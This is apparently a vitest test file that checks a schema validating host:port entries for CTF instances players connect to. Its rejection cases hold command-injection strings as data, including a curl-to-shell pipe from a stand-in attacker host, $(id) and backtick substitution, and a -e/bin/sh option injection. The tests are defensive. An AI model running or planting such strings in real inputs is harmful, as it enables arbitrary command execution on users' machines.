import { expect, test } from "vitest";
import { Seen } from "./protocol.ts";

const seen = (entry: string | null) =>
  Seen.safeParse({ id: crypto.randomUUID(), epoch: 1, state: "running", containerId: "c", entry, startedAt: 1 });

test.each([
  null,
  "localhost:1",
  "node_1.ctf.example:32768",
  "192.0.2.1:80",
  "[2001:db8::1]:80",
  "[::ffff:192.0.2.1]:65535",
  "港.example:8080",
])("an instance may be reached at %j", (entry) => expect(seen(entry).success).toBe(true));

test.each([
  "host:1; curl evil.example | sh",
  "$(id):1",
  "`id`:1",
  "-e/bin/sh:1",
  "-e:1",
  "host:1\nid",
  "a b:1",
  "host",
  "host:123456",
  "[::1",
  ":1",
  "http://a:1",
])("a host cannot have players run %j in their terminals", (entry) => expect(seen(entry).success).toBe(false));
